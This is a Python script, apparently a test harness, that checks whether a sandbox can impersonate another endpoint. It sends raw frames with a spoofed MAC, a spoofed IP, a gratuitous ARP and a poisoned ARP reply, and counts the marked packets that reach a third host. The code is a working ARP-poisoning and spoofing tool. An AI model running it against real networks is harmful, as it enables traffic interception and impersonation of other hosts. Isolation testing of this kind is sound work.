# Sandbox A's attack on endpoint B (issue 9, finding 10), sent raw on A's interface for SECONDS:
#   1. MAC spoofing: frames with B's MAC as source (the bridge would learn B's MAC on A's port),
#   2. IP spoofing: A's own MAC, B's IP as source,
#   3. a gratuitous ARP for B's IP with A's MAC, and 4. an ARP reply to C saying B's IP is at A's MAC.
# Every IP payload carries the marker b"jsspoof" so a sniffer in C can count what got through.
# usage: attack.py IFACE A_MAC B_MAC C_MAC B_IP C_IP SECONDS
import socket, struct, sys, time

ifc, a_mac, b_mac, c_mac, b_ip, c_ip, secs = sys.argv[1:8]


def mac(s):
    return bytes.fromhex(s.replace(":", ""))


def checksum(b):
    if len(b) % 2:
        b += b"\0"
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    s = (s >> 16) + (s & 0xFFFF)
    s += s >> 16
    return (~s) & 0xFFFF


def ipv4(src, dst, payload):
    h = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), 0, 0, 64, 1, 0,
                    socket.inet_aton(src), socket.inet_aton(dst))
    return h[:10] + struct.pack("!H", checksum(h)) + h[12:] + payload


def echo(ident):
    p = struct.pack("!BBHHH", 8, 0, 0, ident, 1) + b"jsspoof" * 4
    return p[:2] + struct.pack("!H", checksum(p)) + p[4:]


def arp(op, sha, sip, tha, tip):
    return struct.pack("!HHBBH6s4s6s4s", 1, 0x0800, 6, 4, op, sha, socket.inet_aton(sip), tha,
                       socket.inet_aton(tip))


A, B, C, ALL = mac(a_mac), mac(b_mac), mac(c_mac), b"\xff" * 6
frames = [
    C + B + b"\x08\x00" + ipv4(b_ip, c_ip, echo(1)),
    C + A + b"\x08\x00" + ipv4(b_ip, c_ip, echo(2)),
    ALL + A + b"\x08\x06" + arp(1, A, b_ip, b"\0" * 6, b_ip),
    C + A + b"\x08\x06" + arp(2, A, b_ip, C, c_ip),
]
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
s.bind((ifc, 0))
sent = 0
end = time.time() + float(secs)
while time.time() < end:
    for f in frames:
        s.send(f)
        sent += 1
    time.sleep(0.02)
print(sent)
